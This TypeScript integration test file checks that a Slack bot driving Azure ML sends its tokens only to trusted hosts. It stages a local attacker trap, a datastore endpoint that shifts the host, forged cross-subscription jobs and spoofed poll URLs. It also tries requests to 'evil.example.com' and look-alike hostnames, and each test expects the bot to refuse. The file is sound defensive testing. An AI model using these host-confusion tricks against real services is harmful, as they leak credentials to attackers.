// The bot's Azure identity acts only in its own workspace, and its tokens go only to their own hosts
// (issue 12, items 1 and 2). A long-form data reference naming another subscription's workspace is
// refused at intake and again by the worker, before any call; a datastore whose endpoint would move the
// storage host (`x@127.0.0.1:<port>`) gets no token; a poll URL on another host gets no ARM token.
// Real stack: Bolt receiver, BullMQ on redis, the Azure ML sandbox over HTTP with blob access through
// the bot's credential (no connection string), so the storage-token path is the production one.
import http from 'node:http';
import net, { type AddressInfo } from 'node:net';
import pino from 'pino';
import { waitFor } from '../../sandbox/slack/wait-for';
import { createArmClient } from '../../src/azureml/arm-client';
import { AZURE_CLOUDS } from '../../src/azureml/clouds';
import { beginLongRunning, waitForResource } from '../../src/azureml/long-running-resource';
import { datastoreId } from '../../src/azureml/workspace';
import { z } from 'zod';
import { STACK_CHANNEL, STACK_USERS, sandboxAzureMlClient, startEmbeddedStack, type EmbeddedStack } from '../../dev/embedded-stack';
import { waitForQuiet } from '../support/quiet-queues';
import { createQueueInspector, everythingTheBotSaid, type QueueInspector } from '../support/stack-probes';

const OTHER_SUBSCRIPTION = '11111111-2222-3333-4444-555555555555';
const OTHER_WORKSPACE_OUTPUT = `azureml://subscriptions/${OTHER_SUBSCRIPTION}/resourceGroups/victim-rg/workspaces/victim-ws/datastores/workspaceblobstore/paths/out/stolen.csv`;

/** A listener standing in for an attacker's host: counts connections (each one would carry a token). */
async function startTrap(): Promise<{ port: number; connections: () => number; stop: () => Promise<void> }> {
  let count = 0;
  const server = net.createServer((socket) => {
    count++;
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    port: (server.address() as AddressInfo).port,
    connections: () => count,
    stop: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

let stack: EmbeddedStack;
let queues: QueueInspector;
let trap: Awaited<ReturnType<typeof startTrap>>;

beforeAll(async () => {
  trap = await startTrap();
  stack = await startEmbeddedStack({
    logger: pino({ level: 'silent' }),
    perChannelIntervalMs: 20,
    slackRateLimit: 'count',
    // Blob access through the bot's own credential, as in production (blank = unset).
    env: { BATCH_SCORE_STORAGE_CONNECTION_STRING: '' },
  });
  queues = createQueueInspector(stack.redis.url, stack.config.redis.queuePrefix);
  // Someone with write access to the workspace registers a datastore whose endpoint moves the host.
  const az = sandboxAzureMlClient(stack.azureml);
  await az.arm.request({
    method: 'PUT',
    path: datastoreId(stack.azureml, 'lure'),
    body: {
      properties: {
        datastoreType: 'AzureBlob',
        accountName: 'devstoreaccount1',
        containerName: 'results',
        endpoint: `x@127.0.0.1:${trap.port}`,
        protocol: 'https',
        credentials: { credentialsType: 'None' },
      },
    },
  });
}, 60_000);

afterAll(async () => {
  await queues?.close();
  await stack?.stop();
  await trap?.stop();
});

const otherSubscriptionCalls = () => stack.azureml.admin.requestCount({ path: new RegExp(OTHER_SUBSCRIPTION, 'i') });

describe('a data reference naming another workspace', () => {
  it('is refused at once in the slash command, enqueues nothing and calls nothing', async () => {
    const before = await queues.total(['run']);
    const res = await stack.driver.slash(`run scope-ep https://example.com/data/ --output ${OTHER_WORKSPACE_OUTPUT}`, { user: STACK_USERS.requester, channel: STACK_CHANNEL });
    expect(res.status).toBe(200);
    expect(JSON.stringify(res.body)).toMatch(/victim-ws.*does not work in/);
    expect(await queues.total(['run'])).toBe(before);
    expect(otherSubscriptionCalls()).toBe(0);
  });

  it('is refused by the worker for a job put straight on the queue, before any call to that subscription', async () => {
    const job = await queues.queue('run').add(
      'run',
      {
        requestId: 'rforgedscope1',
        requester: { userId: STACK_USERS.requester, teamId: stack.slack.teamId, channelId: STACK_CHANNEL },
        spec: { endpointName: 'scope-ep', input: { kind: 'UriFolder', uri: 'https://example.com/data/' }, output: { uri: OTHER_WORKSPACE_OUTPUT } },
      },
      { jobId: 'run-rforgedscope1', attempts: 3 },
    );
    await waitFor(async () => (await job.isFailed()) || undefined, { what: 'the forged run to fail', timeoutMs: 30_000 });
    const failed = await queues.queue('run').getJob(job.id!);
    expect(failed!.failedReason).toMatch(/does not work in/);
    expect(failed!.attemptsMade).toBe(1);
    expect(otherSubscriptionCalls()).toBe(0);
  });
});

describe("a datastore whose endpoint would move the storage host", () => {
  it('gets no storage token: the run is refused with a plain reason and nothing connects to that host', async () => {
    // The run as the worker receives it once the pre-flight check passed (the endpoint need not exist:
    // the output is checked before the endpoint is looked up).
    const job = await queues.queue('run').add(
      'run',
      {
        requestId: 'rlurerun00001',
        requester: { userId: STACK_USERS.requester, teamId: stack.slack.teamId, channelId: STACK_CHANNEL },
        spec: { endpointName: 'lure-ep', input: { kind: 'UriFolder', uri: 'https://example.com/data/' }, output: { uri: 'azureml://datastores/lure/paths/out/p.csv' } },
      },
      { jobId: 'run-rlurerun00001', attempts: 3 },
    );
    // Either the refusal arrives, or (the bug) the token is on its way to the trap: stop at the first.
    await waitFor(async () => (await job.isFailed()) || trap.connections() > 0 || undefined, { what: 'the outcome', timeoutMs: 30_000 });
    expect(trap.connections()).toBe(0);
    const failed = await queues.queue('run').getJob(job.id!);
    expect(failed!.failedReason).toMatch(/datastore's endpoint is not a DNS suffix/);
    await waitForQuiet(queues);
    expect(trap.connections()).toBe(0);
    expect(everythingTheBotSaid(stack.slack, [STACK_CHANNEL]).join('\n')).not.toMatch(/Bearer|eyJ[\w-]{10,}\./);
  });
});

describe('a long-running operation whose poll URL names another host', () => {
  const cloud = AZURE_CLOUDS.AzureCloud;
  let arm: http.Server;
  let armUrl: string;
  let answer: 'header' | 'body' | 'location' = 'body';

  beforeAll(async () => {
    // A resource manager answering a PUT the way a compromised or spoofed one could: the operation to
    // poll lives on the trap's host.
    arm = http.createServer((req, res) => {
      const pollUrl = `http://127.0.0.1:${trap.port}/operations/1`;
      res.setHeader('content-type', 'application/json');
      if (answer === 'header') res.setHeader('azure-asyncoperation', pollUrl);
      if (answer === 'location') {
        res.setHeader('location', pollUrl);
        res.statusCode = 202;
        res.end();
        return;
      }
      res.statusCode = 201;
      res.end(JSON.stringify({ id: req.url, name: 'x', properties: { provisioningState: 'Creating', properties: { AzureAsyncOperationUri: pollUrl } } }));
    });
    await new Promise<void>((resolve) => arm.listen(0, '127.0.0.1', resolve));
    armUrl = `http://127.0.0.1:${(arm.address() as AddressInfo).port}`;
  });
  afterAll(() => new Promise<void>((resolve) => arm.close(() => resolve())));

  it.each(['body', 'header'] as const)('refuses to poll an AzureAsyncOperation URI (%s) off the resource-manager host', async (how) => {
    answer = how;
    const before = trap.connections();
    const client = createArmClient({ cloud, credential: { getToken: async () => ({ token: 'arm-token', expiresOnTimestamp: Date.now() + 3_600_000 }) }, baseUrl: armUrl, retry: { maxAttempts: 1 } });
    const ctx = { arm: client, workspace: { subscriptionId: OTHER_SUBSCRIPTION, resourceGroup: 'rg', workspace: 'ws', location: 'eastus' } };
    const began = await beginLongRunning(ctx, { method: 'PUT', path: '/subscriptions/x/thing', body: {} }, z.unknown(), 'thing');
    expect(began.poller?.pollUrl).toContain(String(trap.port));
    const outcome = await waitForResource(ctx, began.poller, '/subscriptions/x/thing', z.unknown(), 'thing', { minIntervalMs: 1, maxIntervalMs: 5 }).catch((e: unknown) => e);
    expect(outcome).toMatchObject({ name: 'AzureMlError', code: 'UntrustedHost', retriable: false });
    expect(trap.connections()).toBe(before);
  });

  it('refuses a Location poll URL off the resource-manager host', async () => {
    answer = 'location';
    const before = trap.connections();
    const client = createArmClient({ cloud, credential: { getToken: async () => ({ token: 'arm-token', expiresOnTimestamp: Date.now() + 3_600_000 }) }, baseUrl: armUrl, retry: { maxAttempts: 1 } });
    await expect(client.request({ method: 'GET', path: `http://127.0.0.1:${trap.port}/operations/1` })).rejects.toMatchObject({ code: 'UntrustedHost' });
    expect(trap.connections()).toBe(before);
  });

  it('sends the scoring token only to the cloud scoring hosts or the configured resource manager', async () => {
    const client = createArmClient({ cloud, credential: { getToken: async () => ({ token: 'ml-token', expiresOnTimestamp: Date.now() + 3_600_000 }) }, baseUrl: armUrl, retry: { maxAttempts: 1 } });
    await expect(client.request({ method: 'POST', path: `http://127.0.0.1:${trap.port}/jobs`, scope: cloud.mlScope, apiVersion: false })).rejects.toMatchObject({ code: 'UntrustedHost' });
    await expect(client.request({ method: 'POST', path: 'https://evil.example.com/jobs', scope: cloud.mlScope, apiVersion: false })).rejects.toMatchObject({ code: 'UntrustedHost' });
    await expect(
      client.request({ method: 'POST', path: 'https://user@ep.eastus.inference.ml.azure.com.evil.example/jobs', scope: cloud.mlScope, apiVersion: false }),
    ).rejects.toMatchObject({ code: 'UntrustedHost' });
  });

  it('sends the management token for registry look-ups only to the cloud regional Azure ML hosts, over https', async () => {
    const client = createArmClient({ cloud, credential: { getToken: async () => ({ token: 'arm-token', expiresOnTimestamp: Date.now() + 3_600_000 }) }, baseUrl: armUrl, retry: { maxAttempts: 1 } });
    // A discovery answer naming another host as the registry's resource provider must not take the token along.
    for (const url of [
      'https://evil.example.com/registrymanagement/v1.0/registries/r/discovery',
      `https://eastus.${cloud.registryHostSuffix}.evil.example/subscriptions/s`,
      `http://eastus.${cloud.registryHostSuffix}/subscriptions/s`,
    ]) {
      await expect(client.request({ method: 'GET', path: url, apiVersion: false })).rejects.toMatchObject({ code: 'UntrustedHost' });
    }
    // The scoring token never goes to a registry host.
    await expect(client.request({ method: 'GET', path: `https://eastus.${cloud.registryHostSuffix}/x`, scope: cloud.mlScope, apiVersion: false })).rejects.toMatchObject({
      code: 'UntrustedHost',
    });
  });
});
